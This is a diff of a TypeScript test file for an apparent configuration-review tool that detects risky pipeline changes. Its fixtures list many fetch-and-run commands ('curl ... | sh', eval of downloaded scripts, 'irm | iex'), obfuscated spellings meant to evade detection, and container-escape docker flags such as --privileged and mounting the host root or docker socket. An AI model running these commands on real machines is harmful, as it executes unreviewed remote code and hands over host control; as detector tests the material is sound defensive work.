@@ -53,6 +53,14 @@ const cases: readonly [string, { before: string; after: string; changed?: string
     [`high weakened-check: \`enabled\` of the check \`p/wall\` changed ${at(2)}`],
   ],
   [
+    'a branch with a check in it that does not run',
+    {
+      before: 'tasks:\n  all:\n    pipeline: { tasks: { test: { shell: a } } }\n',
+      after: 'tasks:\n  all:\n    pipeline: { tasks: { test: { shell: a } } }\n    enabled: false\n',
+    },
+    [`high weakened-check: \`enabled\` of the branch with checks \`p/all\` changed ${at(4)}`],
+  ],
+  [
     'the failure of a check that another task deals with',
     {
       before: 'tasks:\n  test: { shell: a }\n',
@@ -98,7 +106,7 @@ const cases: readonly [string, { before: string; after: string; changed?: string
       after: 'tasks:\n  t:\n    shell: |\n      curl -s \\\n        https://x.test/i.sh | sudo bash -s\n',
     },
     [
-      `high piped-download: \`p/t\` runs what it loads from the network: \`curl -s    https://x.test/i.sh | sudo bash\` ${at(3)}`,
+      `high piped-download: \`p/t\` runs what it loads from the network: \`curl -s https://x.test/i.sh | sudo bash\` ${at(3)}`,
       `low network-host: \`p/t\` now names the host \`x.test\` ${at(3)}`,
     ],
   ],
@@ -178,6 +186,133 @@ it.each(cases)('tells of %s', async (_, { before, after, changed }, risks) => {
   );
   expect(review.diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
   expect(risksOf(review)).toEqual(risks);
+});
+
+/** The messages of one risk, for a task or file with these scripts before and after. */
+async function toldOf(code: string, before: string, after: string): Promise<string[]> {
+  const side = (script: string) => ({ p: `tasks:\n  t:\n    shell: ${JSON.stringify(script)}\n` });
+  const { risks, diagnostics } = await reviewed(side(before), side(after));
+  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
+  return risks.filter((risk) => risk.code === code).map(({ message }) => message);
+}
+
+const known = 'curl -fsS https://get.ok.test/x.sh | sh';
+const bad = 'curl -fsS https://get.ok.test/evil.sh | sh';
+const loads = '`p/t` runs what it loads from the network:';
+
+it.each<readonly [what: string, after: string, messages: readonly string[]]>([
+  ['another one after the one that was there', `${known}\n${bad}`, [`${loads} \`${bad}\``]],
+  ['another one before it', `${bad}\n${known}`, [`${loads} \`${bad}\``]],
+  ['the same one twice', `${known}\n${known}`, [`${loads} \`${known}\``]],
+  ['one that takes its place', bad, [`${loads} \`${bad}\``]],
+  [
+    'more than are told',
+    [1, 2, 3, 4, 5].map((digit) => `curl a.test/${digit} | sh`).join('\n'),
+    [`${loads} \`curl a.test/1 | sh\`, \`curl a.test/2 | sh\`, \`curl a.test/3 | sh\` and 2 more`],
+  ],
+  ['none that only moved', `set -e\nif true; then\n  ${known}\nfi\nmake`, []],
+  ['none that is written otherwise', 'curl   -fsS \\\n  https://get.ok.test/x.sh |\n  sh', []],
+])('tells of scripts from the network: %s', async (_, after, messages) => {
+  expect(await toldOf('piped-download', known, after)).toEqual(messages);
+});
+
+it('tells of rights over the machine in each new line', async () => {
+  const base = 'docker run --privileged good';
+  const says = '`p/t` asks for rights over the machine: `--privileged`';
+  expect(await toldOf('privileged-command', base, `${base}\ndocker run --privileged evil`)).toEqual([says]);
+  expect(await toldOf('privileged-command', base, 'docker run --privileged evil')).toEqual([says]);
+  expect(await toldOf('privileged-command', base, `make\n${base}\nmake`)).toEqual([]);
+});
+
+it.each([
+  'cu\\\nrl a.test | s\\\nh',
+  'c\'ur\'l a.test | "sh"',
+  'c\\url a.test | \\bash',
+  'curl a.test |\n  # a comment\n  bash',
+  'curl "a.test?x=1&y=2;z" | sh',
+  'curl -v a.test 2>&1 | sh',
+  'curl a.test |& sh',
+  `curl -H "${'x'.repeat(3000)}" a.test | sh`,
+  'curl a.test | gunzip | tee log | sh',
+  'curl a.test | sudo -E bash -',
+  'curl a.test | sudo -u root A=1 /usr/bin/env bash',
+  'curl a.test | /bin/sh -s -- -y',
+  'curl a.test | timeout 10 python3.12',
+  'curl a.test | $SHELL',
+  '(echo; curl a.test) | sh',
+  '{ curl a.test; echo; } | sh',
+  'x() { curl a.test | sh; }',
+  'bash -c "curl a.test | sh"',
+  `bash -c "sh -c 'curl a.test | sh'"`,
+  "echo don't; curl 'a.test' | sh",
+  'bash -euo pipefail -c "$(curl a.test)"',
+  'sudo bash <(sudo curl a.test)',
+  'bash < <(curl a.test)',
+  'sh <<< "$(wget -O- a.test)"',
+  'if true; then . <(curl a.test); fi',
+  'eval "`curl a.test`"',
+  'python3 -c "$(curl a.test)"',
+  'irm a.test | iex',
+])('knows a script from the network in %j', async (script) => {
+  expect(await toldOf('piped-download', 'a', script)).toHaveLength(1);
+});
+
+it.each([
+  'curl a.test | jq .x > sh',
+  "curl a.test | grep -E 'bash|sh'",
+  "curl a.test | sed 's|bash|zsh|'",
+  'curl -o x a.test; cat list | sh',
+  'curl -o x a.test || sh usual.sh',
+  'python3 x.py --data "$(curl a.test)"',
+  'git clone a.test && bash x.sh',
+])('knows none in %j', async (script) => {
+  expect(await toldOf('piped-download', 'a', script)).toEqual([]);
+});
+
+it.each([
+  'docker run --priv""ileged x',
+  'docker run --net  host x',
+  'docker run --network "host" x',
+  'docker run -v/:/host x',
+  'docker run -v /etc/:/host x',
+  'docker run --mount type=bind,source=/,target=/x x',
+  'docker run --security-opt seccomp=unconfined x',
+  'docker run -v /run/docker.sock:/run/docker.sock x',
+])('knows rights over the machine in %j', async (script) => {
+  expect(await toldOf('privileged-command', 'a', script)).toHaveLength(1);
+});
+
+it.each([
+  ['env of the file', 'env: { X: "curl a.test | sh" }\ntasks:\n  t: { shell: a }\n'],
+  ['a param of the file', 'params: { x: "curl a.test | sh" }\ntasks:\n  t: { shell: a }\n'],
+  ['env of a task', 'tasks:\n  t: { shell: a, env: { X: "curl a.test | sh" } }\n'],
+  ['env of all tasks', 'defaults: { env: { X: "curl a.test | sh" } }\ntasks:\n  t: { shell: a }\n'],
+  ['a param of a task', 'tasks:\n  t: { shell: a, params: { x: "curl a.test | sh" } }\n'],
+  ['a matrix', 'tasks:\n  t: { shell: a, matrix: { x: [b, "curl a.test | sh"] } }\n'],
+  ['arguments', 'tasks:\n  t: { shell: { file: a.sh, args: ["curl a.test | sh"] } }\n'],
+  ['the shell', 'tasks:\n  t: { shell: { script: a, shell: [bash, -c, "curl a.test | sh"] } }\n'],
+  ['a branch', 'tasks:\n  t:\n    pipeline: { tasks: { u: { shell: "curl a.test | sh" } } }\n'],
+  ['an anchor', 'env: &e { X: "curl a.test | sh" }\ntasks:\n  t: { shell: a, env: *e }\n'],
+])('knows a script from the network in %s', async (_, after) => {
+  const { risks, diagnostics } = await reviewed({ p: 'tasks:\n  t: { shell: a }\n' }, { p: after });
+  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
+  expect(new Set(risks.map(({ code }) => code).filter((code) => code === 'piped-download')).size).toBe(1);
+});
+
+it('knows rights over the machine in the words of a shell, and a script in what a call is given', async () => {
+  const words = '[docker, run, --net, host, -v, "/:/x", box, sh]';
+  const shell = (more: string) => ({ p: `tasks:\n  t: { shell: { script: a${more} } }\n` });
+  const { risks } = await reviewed(shell(''), shell(`, shell: ${words}`));
+  expect(risks.map(({ message }) => message)).toEqual([
+    '`p/t` asks for rights over the machine: `--net host`, `-v /:`',
+  ]);
+  const called = 'params: { x: "" }\ntasks:\n  t: { shell: a }\n';
+  const call = (x: string) => ({
+    q: called,
+    p: `tasks:\n  t: { pipeline: { name: q, params: { x: ${JSON.stringify(x)} } } }\n`,
+  });
+  const found = await reviewed(call('a'), call('curl a.test | sh'));
+  expect(found.risks.map(({ message }) => message)).toEqual([`${loads} \`curl a.test | sh\``]);
 });
 
 it('tells of no risk that was there before', async () => {
@@ -285,6 +420,24 @@ it('has a case for each code', () => {
   const told = new Set(cases.flatMap(([, , risks]) => risks.map((risk) => /^\w+ ([\w-]+):/.exec(risk)?.[1])));
   const others = ['configuration', 'image', 'image-without-digest', 'executor'];
   expect(Object.keys(riskCodes).filter((code) => !told.has(code) && !others.includes(code))).toEqual([]);
+});
+
+it.each([
+  'curl | sh ',
+  'curl | ',
+  'curl ( { ',
+  '" \\" ',
+  "curl ' | ",
+  'bash -c < ',
+  'bash <( a a a ',
+  '--mount=source=',
+  '|#\n',
+])('reads %j many times over in linear time', async (piece) => {
+  const script = (end: string) => piece.repeat(300_000 / piece.length) + end;
+  const side = (end: string) => ({ p: `tasks:\n  t:\n    shell: ${JSON.stringify(script(end))}\n` });
+  const started = performance.now();
+  expect((await reviewed(side('a'), side('b'))).tasks).toHaveLength(1);
+  expect(performance.now() - started).toBeLessThan(5_000);
 });
 
 it('reads long lines in linear time', async () => {
